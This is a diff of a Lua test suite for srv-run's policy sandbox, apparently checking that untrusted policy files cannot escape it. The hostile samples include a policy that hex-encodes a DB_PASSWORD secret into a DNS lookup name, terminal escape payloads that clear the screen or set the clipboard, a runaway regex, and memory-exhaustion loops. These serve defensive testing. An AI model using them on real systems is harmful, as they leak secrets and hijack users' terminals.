@@ -69,6 +69,40 @@ describe("srv-run's policy sandbox", function()
         end
     end)
 
+    it("points an argument error of srv.policy{} and friends at the policy file's line", function()
+        for _, extra in ipairs { {}, { "--no-sandbox" } } do
+            for _, case in ipairs {
+                -- a tail call at the file's end leaves no caller frame in Lua
+                { 'local srv = require "srv"\n\nreturn srv.policy { pinn = "x" }\n',
+                  ":3: bad argument #1 to 'policy' (unknown option 'pinn'; did you mean 'pin'?)" },
+                { 'local srv = require "srv"\nreturn srv.chain(\n  srv.policy { pin = "a" },\n  srv.policy { exclude = 5 })\n',
+                  ":4: bad argument #1 to 'policy' (exclude: " },
+                { 'local srv = require "srv"\nlocal m = srv.matcher(42)\n', ":2: bad argument #1 to 'matcher'" },
+                { 'local srv = require "srv"\nreturn function(c)\n  return srv.policy { prefer = 1 }(c)\nend\n',
+                  ":3: bad argument #1 to 'policy' (prefer: " },
+            } do
+                local r = with_policy(case[1], table.unpack(extra))
+                assert.equal(1, r.code, r.stderr)
+                assert.truthy(r.stderr:find(case[2], 1, true), table.concat(extra) .. " " .. case[1] .. "\n" .. r.stderr)
+            end
+        end
+    end)
+
+    it("says in --explain which pin or exclude matched no candidate", function()
+        local body = 'return require("srv").policy { pin = { "nosuch.example.net", "server3.example.net" }, '
+            .. 'exclude = { "typo.example.net", "server2.example.net" } }'
+        for _, extra in ipairs { {}, { "--no-sandbox" } } do
+            local r = with_policy(body, "--explain", table.unpack(extra))
+            assert.equal(0, r.code, r.stderr)
+            assert.truthy(r.stdout:find(";; note: the policy's exclude typo.example.net matched no candidate\n"
+                                        .. ";; note: the policy's pin nosuch.example.net matched no candidate\n", 1, true),
+                          r.stdout)
+            assert.falsy(r.stdout:find("server3.example.net matched", 1, true), r.stdout)
+            local j = with_policy(body, "--explain", "--json", table.unpack(extra))
+            assert.truthy(j.stdout:find('"the policy\'s pin nosuch.example.net matched no candidate"', 1, true), j.stdout)
+        end
+    end)
+
     it("reports a policy that yields, returns no list, or uses the resolver after closing it", function()
         local cases = {
             { "return function(c) coroutine.yield() return c end", "a policy must not yield" },
@@ -107,7 +141,6 @@ describe("srv-run's policy sandbox", function()
                 local srv = require "srv"
                 assert(not pcall(require, "srv.names"))
                 assert(srv.resolver == nil and srv.spawn == nil)
-                assert(os.getenv("HOME") ~= nil or true)
                 assert(string.format("%d", 1) == "1" and math.max(1, 2) == 2 and #table.pack(1, 2) == 2)
                 local is_server2 = srv.matcher("SERVER2.example.net.")
                 return srv.chain(srv.policy { pin = "backup.example.net" }, function(c)
@@ -121,6 +154,50 @@ describe("srv-run's policy sandbox", function()
                 end)
             ]])
             assert.same({ 0, "backup.example.net.", 4 }, { r.code, targets(r.stdout)[1], #targets(r.stdout) }, r.stderr)
+        end)
+
+        it("gives a policy no environment: os.getenv is not there", function()
+            -- the attack: a secret hex-encoded into a lookup name reaches the DNS server
+            local r = srv_run({ "lookup", NAME, "--zone", ZONE, "--policy", write_file([[
+                return function(c, ctx)
+                    local secret = os.getenv("DB_PASSWORD")
+                    ctx.resolver:lookup("_x._tcp." .. secret:gsub(".", function(ch)
+                        return string.format("%02x", ch:byte()) end) .. ".example.net")
+                    return c
+                end]]) }, { env = { DB_PASSWORD = "hunter2" } })
+            assert.equal(1, r.code, r.stderr)
+            assert.truthy(r.stderr:find("attempt to call a nil value (field 'getenv')", 1, true), r.stderr)
+            assert.falsy((r.stdout .. r.stderr):find("68756e74657232", 1, true))
+            local keys = with_policy("for k in pairs(os) do print('os.' .. k) end return function(c) return c end")
+            assert.equal(0, keys.code, keys.stderr)
+            assert.same({ "os.clock", "os.date", "os.difftime", "os.time" }, (function()
+                local list = {}
+                for k in keys.stderr:gmatch("os%.%w+") do list[#list + 1] = k end
+                table.sort(list)
+                return list
+            end)())
+        end)
+
+        it("gives the file the --policy-arg settings as its argument, sandboxed or not", function()
+            for _, extra in ipairs { {}, { "--no-sandbox" } } do
+                local r = with_policy([[
+                    local settings = ...
+                    local say = io and function(...) io.stderr:write(table.concat({ ... }, "\t"), "\n") end or print
+                    say("pin=" .. tostring(settings.pin), "x=" .. tostring(settings.x))
+                    return require("srv").policy { pin = settings.pin }]],
+                    "--policy-arg", "pin=backup.example.net", "--policy-arg", "x=a=b", table.unpack(extra))
+                assert.equal(0, r.code, r.stderr)
+                assert.truthy(r.stderr:find("pin=backup.example.net\tx=a=b"), r.stderr)
+                assert.equal("backup.example.net.", targets(r.stdout)[1])
+            end
+            local none = with_policy("assert(type(...) == 'table' and next(...) == nil) return function(c) return c end")
+            assert.equal(0, none.code, none.stderr)
+            for _, words in ipairs {
+                { "--policy-arg", "pin" }, { "--policy-arg", "=x" }, { "--policy-arg", "a=1", "--policy-arg", "a=2" },
+            } do
+                assert_usage_error(with_policy("return function(c) return c end", table.unpack(words)), "--policy-arg")
+            end
+            assert_usage_error(srv_run { "lookup", NAME, "--zone", ZONE, "--policy-arg", "a=1" }, "--policy-arg needs --policy")
         end)
 
         it("runs the file with all of Lua and no budget with --no-sandbox", function()
@@ -177,6 +254,293 @@ describe("srv-run's policy sandbox", function()
             assert.falsy(r.stdout:find("ESCAPED", 1, true), r.stdout)
             assert.equal(1, r.code, r.stderr)
             assert.truthy(r.stderr:find("not available to a sandboxed policy", 1, true), r.stderr)
+        end)
+    end)
+
+    describe("what srv-run reports", function()
+        it("comes from what srv saw, not from a trace or fields the policy forged", function()
+            local r = with_policy([[
+                return function(c, ctx)
+                    local out = {}
+                    for _, x in ipairs(c) do
+                        if x.target == "backup.example.net" then table.insert(out, 1, x) else out[#out + 1] = x end
+                    end
+                    table.insert(out, 2, { target = "evil.example.org", port = 5222, priority = 5, weight = 50,
+                                           source = "srv" })
+                    for _, x in ipairs(out) do x.down = true end
+                    ctx.trace[#ctx.trace + 1] = { step = "health", target = "server1.example.net", port = 5222,
+                                                  reason = "marked down: moved behind the up candidates" }
+                    ctx.trace[#ctx.trace + 1] = { step = "skip", target = "server9.example.net", port = 5222,
+                                                  reason = "unusable" }
+                    ctx.trace[#ctx.trace + 1] = { step = "policy", rule = "pin", target = "nowhere.example.net",
+                                                  port = 5222, reason = "!" }
+                    return out
+                end]], "--explain", "--seed", "1")
+            assert.equal(0, r.code, r.stderr)
+            assert.falsy(r.stdout:find("down", 1, true), r.stdout)
+            assert.falsy(r.stdout:find("server9", 1, true), r.stdout)
+            assert.truthy(r.stdout:find("15 0 5222 backup.example.net. srv\n;   priority 15: the only usable record of this priority\n;   the policy moved it from #5 to #1\n", 1, true), r.stdout)
+            assert.truthy(r.stdout:find("5 50 5222 evil.example.org. srv\n;   added by the policy\n", 1, true), r.stdout)
+        end)
+
+        it("takes back a policy's health marks after its call: each --simulate draw starts from srv-run's", function()
+            local r = with_policy([[
+                local calls = 0
+                return function(c, ctx)
+                    calls = calls + 1
+                    -- call 1 finds what --down names (lua/runner/lookup.lua), call 2 is the first draw
+                    if calls <= 2 then
+                        ctx.resolver:mark_down("server1.example.net", 5222)
+                        ctx.resolver:mark_up("backup.example.net", 5222)
+                    end
+                    return c
+                end]], "--simulate", "40", "--json", "--down", "backup.example.net")
+            assert.equal(0, r.code, r.stderr)
+            local json = require "dkjson"
+            local out = assert(json.decode(r.stdout))
+            local first, last = {}, {}
+            for _, t in ipairs(out.targets) do first[t.target], last[t.target] = t.first, t.observed[#t.observed] end
+            -- server1 (priority 5) is first in every draw but the one whose policy marked it down
+            assert.is_true(first["server1.example.net"] >= 39 / 40, r.stdout)
+            -- backup stays down (--down) after the policy's mark_up
+            assert.is_true(last["backup.example.net"] >= 39 / 40, r.stdout)
+        end)
+    end)
+
+    describe("the time and memory limits", function()
+        it("does not crash on 25,000 coroutines each closing the previous one from __close", function()
+            local body = [[
+                local previous
+                for i = 1, 25000 do
+                    local p = previous
+                    local co = coroutine.create(function()
+                        local x <close> = setmetatable({}, { __close = function() if p then coroutine.close(p) end end })
+                        coroutine.yield()
+                    end)
+                    coroutine.resume(co)
+                    previous = co
+                end
+                print(coroutine.close(previous))
+                return function(c) return c end]]
+            for _, extra in ipairs { {}, { "--budget", "2000000" } } do
+                local r = with_policy(body, table.unpack(extra))
+                -- the closes past the 100th nested one fail (srv-run's limit), caught by __close
+                assert.same({ 0, "true\n" }, { r.code, r.stderr })
+            end
+        end)
+
+        it("stops a policy at its wall-time limit, in Lua code or stuck inside one C function", function()
+            for _, case in ipairs {
+                { "return function(c) while true do pcall(function() while true do end end) end end",
+                  "_xmpp-client._tcp.example.net: policy failed: the policy ran past its time limit of 1 seconds "
+                  .. "(srv-run's limit)" },
+                { "while true do end", "the policy ran past its time limit of 1 seconds (srv-run's limit)" },
+                -- backtracking that never ends, in one call of string.find
+                { 'return function(c) string.find(("a"):rep(40), ("a*"):rep(40) .. "b") return c end',
+                  "_xmpp-client._tcp.example.net: policy failed: the policy ran past its time limit of 1 seconds "
+                  .. "inside one C function (srv-run's limit); srv-run stopped it" },
+                { 'string.find(("a"):rep(40), ("a*"):rep(40) .. "b")',
+                  ": the policy ran past its time limit of 1 seconds inside one C function" },
+            } do
+                local began = socket.gettime()
+                local r = with_policy(case[1], "--budget", "100000000000", "--policy-seconds", "1")
+                local took = socket.gettime() - began
+                assert.equal(1, r.code, case[1] .. "\n" .. r.stderr)
+                assert.truthy(r.stderr:find(case[2], 1, true), case[1] .. "\n" .. r.stderr)
+                assert.is_true(took < 15, took .. " s")
+            end
+        end)
+
+        it("stops a policy at its memory limit, whatever it catches with pcall", function()
+            for _, case in ipairs {
+                { 'local t = {} for i = 1, 3 do t[i] = string.rep("x", 1 << 30) end', {},
+                  "the policy used more than 256 MiB of memory (srv-run's limit)" },
+                { 'local t = {} for i = 1, 3 do t[i] = string.rep("x", 1 << 30) end', { "--budget", "1000" },
+                  "the policy used more than 256 MiB of memory (srv-run's limit)" },
+                { "return function(c) local t = {} while true do pcall(function() t[#t + 1] = ('x'):rep(1 << 24) "
+                  .. "end) end end", { "--policy-memory", "64" },
+                  "policy failed: the policy used more than 64 MiB of memory (srv-run's limit)" },
+                -- what a policy keeps from one call to the next counts
+                { "local kept = {} return function(c) kept[#kept + 1] = ('x'):rep(20 << 20) .. #kept return c end",
+                  { "--policy-memory", "64", "--simulate", "10" },
+                  "policy failed: the policy used more than 64 MiB of memory (srv-run's limit)" },
+            } do
+                local r = with_policy(case[1], table.unpack(case[2]))
+                assert.equal(1, r.code, case[1] .. "\n" .. r.stderr)
+                assert.truthy(r.stderr:find(case[3], 1, true), case[1] .. "\n" .. r.stderr)
+            end
+        end)
+
+        it("takes --policy-seconds and --policy-memory with the sandbox only", function()
+            for _, words in ipairs { { "--policy-seconds", "1" }, { "--policy-memory", "10" } } do
+                assert_usage_error(with_policy("return function(c) return c end", "--no-sandbox", table.unpack(words)),
+                                   words[1] .. " and --no-sandbox exclude each other")
+            end
+            assert_usage_error(with_policy("return function(c) return c end", "--policy-seconds", "0"),
+                               "bad value '0' for --policy-seconds")
+            assert_usage_error(with_policy("return function(c) return c end", "--policy-memory", "0"),
+                               "bad value '0' for --policy-memory")
+        end)
+    end)
+
+    describe("the library path", function()
+        -- The sandbox is srv-run's: its module needs srv-run's C side
+        -- (srv.run.guard), which no other Lua has, and it is never
+        -- installed, so a Lua program cannot run a policy through it with
+        -- none of srv-run's guards (Ctrl-C, the policy thread).
+        it("cannot be loaded from another Lua, by require or from its file", function()
+            local command = [[lua5.4 -e 'package.path = "lua/?.lua;lua/?/init.lua;" .. package.path
+                for _, name in ipairs { "format", "script", "exit" } do
+                    package.preload["srv.run." .. name] = loadfile("lua/runner/" .. name .. ".lua")
+                end
+                print(pcall(require, "srv.run.sandbox"))
+                print(pcall(dofile, "lua/runner/sandbox.lua"))' 2>&1]]
+            local pipe = assert(io.popen(command))
+            local out = pipe:read("a")
+            pipe:close()
+            assert.truthy(out:find("^false\tmodule 'srv.run.sandbox' not found"), out)
+            assert.truthy(out:find("\nfalse\t[^\n]*module 'srv.run.guard' not found"), out)
+            assert.falsy(out:find("\ntrue"), out)
+        end)
+
+        it("does not let a policy keep its thread past a call", function()
+            local r = with_small_budget([[
+                local saved, calls = nil, 0
+                return function(c)
+                    calls = calls + 1
+                    if calls == 1 then
+                        saved = coroutine.running()
+                        pcall(coroutine.yield)
+                        return c
+                    end
+                    coroutine.resume(saved)
+                    coroutine.resume(coroutine.create(function() ]] .. ESCAPE .. [[ end))
+                    return c
+                end]])
+            assert_budget_held(r)
+            assert.equal(1, r.code, r.stderr)
+            assert.truthy(r.stderr:find("policy failed: a policy must not yield", 1, true), r.stderr)
+        end)
+    end)
+
+    describe("srv-run's own work on what a policy returns", function()
+        it("reads no more than 1,000 trace entries, up to the first gap", function()
+            -- a trace doubled with table.move (4 million entries), then made sparse
+            local r = with_policy([[
+                return function(c, ctx)
+                    local t = ctx.trace
+                    t[1] = { step = "policy", rule = "pin", target = "server1.example.net", port = 5222 }
+                    for _ = 1, 22 do table.move(t, 1, #t, #t + 1) end
+                    for k = 0, 62 do t[1 << k] = t[1] end
+                    return c
+                end]], "--explain")
+            assert.equal(0, r.code, r.stderr)
+            assert.is_true(#r.stdout < 4000, #r.stdout .. " octets of output")
+            assert.truthy(r.stdout:find("pinned first by the policy (pin)\n", 1, true), r.stdout)
+        end)
+
+        it("fails with POLICY when a policy returns more than srv-run's limits", function()
+            local cases = {
+                { "local out = {} for i = 1, 5000 do out[i] = { target = 't' .. i .. '.example.net', port = 1, "
+                  .. "priority = 1, weight = 1 } end return out", "more than 256 candidates" },
+                { "c[1].target = ('a'):rep(2000) .. '.example.net' return c", "more than 1024 octets in one string" },
+                { "for i = 1, 40 do c[1]['f' .. i] = i end return c", "more than 32 fields in a candidate" },
+                { "local a = {} for i = 1, 100 do a[i] = '192.0.2.' .. i end c[1].addresses = a return c",
+                  "more than 64 addresses in a candidate" },
+                { "local out = {} for i = 1, 100 do local x = { target = 't' .. i .. '.example.net', port = 1, "
+                  .. "priority = 1, weight = 1 } for j = 1, 20 do x['f' .. j] = ('x'):rep(1000) .. j end "
+                  .. "out[i] = x end return out",
+                  "more than 1048576 octets of strings in all" },
+            }
+            for _, case in ipairs(cases) do
+                for _, extra in ipairs { {}, { "--simulate", "2" }, { "--addresses" } } do
+                    local r = with_policy("return function(c) " .. case[1] .. " end", table.unpack(extra))
+                    assert.equal(1, r.code, r.stderr)
+                    assert.truthy(r.stderr:find("policy failed: the policy returned " .. case[2] .. " (srv-run's limit)",
+                                                1, true), r.stderr)
+                    assert.equal("", r.stdout)
+                end
+            end
+        end)
+    end)
+
+    describe("a policy's lookups", function()
+        it("are bounded in number per call", function()
+            local r = with_policy([[
+                return function(c, ctx)
+                    for i = 1, 1000 do ctx.resolver:lookup("_x._tcp.n" .. i .. ".example.net") end
+                    return c
+                end]])
+            assert.equal(1, r.code, r.stderr)
+            assert.truthy(r.stderr:find("policy failed: the policy made more than 64 lookups in one call "
+                                        .. "(srv-run's limit)", 1, true), r.stderr)
+        end)
+
+        it("are bounded in waiting per call, against a server that never answers", function()
+            local bad_dns = require "spec.support.bad_dns_server"
+            local server = bad_dns.start()
+            local path = write_file([[
+                return function(c, ctx)
+                    for i = 1, 3 do ctx.resolver:addresses("q" .. i .. ".silent.bad.test") end
+                    return c
+                end]])
+            local began = socket.gettime()
+            local r = srv_run({ "lookup", "_xmpp-client._tcp.ok.bad.test", "--server", server.address,
+                                "--timeout", "30", "--tries", "1", "--policy", path }, { timeout = 50 })
+            local took = socket.gettime() - began
+            server:stop()
+            os.remove(path)
+            assert.equal(1, r.code, r.stderr)
+            assert.truthy(r.stderr:find("policy failed: the policy's lookups waited more than 5 seconds in one "
+                                        .. "call (srv-run's limit)", 1, true), r.stderr)
+            assert.is_true(took < 25, took .. " s")
+        end)
+    end)
+
+    describe("what reaches the terminal", function()
+        -- ESC (clear the screen, OSC 52 to set the clipboard), BEL, CR (rewrite the
+        -- line), C1 CSI (U+009B), a bidi override (U+202E), a byte that is not UTF-8
+        local RAW = { "\27", "\7", "\r", "\u{9B}", "\u{202E}", "\xff" }
+        local HOSTILE = [[local bad = "\27[2J\27]52;c;aGk=\7\r\u{9B}31m\u{202E}\xff"
+]]
+        local function assert_escaped(r, where)
+            for _, raw in ipairs(RAW) do
+                assert.falsy(r.stdout:find(raw, 1, true), where .. ": raw " .. string.format("%q", raw) .. " on stdout")
+                assert.falsy(r.stderr:find(raw, 1, true), where .. ": raw " .. string.format("%q", raw) .. " on stderr")
+            end
+        end
+
+        it("escapes the strings of a policy's candidates in text, --explain and --simulate", function()
+            local body = HOSTILE .. [[
+                print("from print: " .. bad .. "\nsecond line")
+                return function(c)
+                    local evil = { target = "evil" .. bad .. ".example.org", port = 5222, priority = 0, weight = 0,
+                                   source = "srv" .. bad, transport = "udp" .. bad, address_error = bad,
+                                   addresses = { "192.0.2.1" .. bad } }
+                    table.insert(c, 1, evil)
+                    return c
+                end]]
+            for _, extra in ipairs { {}, { "--explain" }, { "--simulate", "3" } } do
+                local r = with_policy(body, table.unpack(extra))
+                local where = table.concat(extra, " ")
+                assert.equal(0, r.code, r.stderr)
+                assert_escaped(r, where)
+                assert.truthy(r.stderr:find("from print: \\x1B[2J\\x1B]52;c;aGk=\\x07\\x0D\\u{9B}31m\\u{202E}\\xFF\nsecond line", 1, true), r.stderr)
+                assert.truthy(r.stdout:find("evil\\x1B[2J", 1, true), r.stdout)
+            end
+        end)
+
+        it("escapes a policy's error message, at load time and per call", function()
+            for _, body in ipairs {
+                HOSTILE .. "error(bad, 0)",
+                HOSTILE .. "return function(c) error('policy says ' .. bad, 0) end",
+                HOSTILE .. "return function(c) return { { target = bad, priority = 0, weight = 0 } } end",
+            } do
+                local r = with_policy(body)
+                assert.equal(1, r.code, r.stderr)
+                assert_escaped(r, body)
+                assert.truthy(r.stderr:find("\\x1B[2J", 1, true), r.stderr)
+            end
         end)
     end)
 
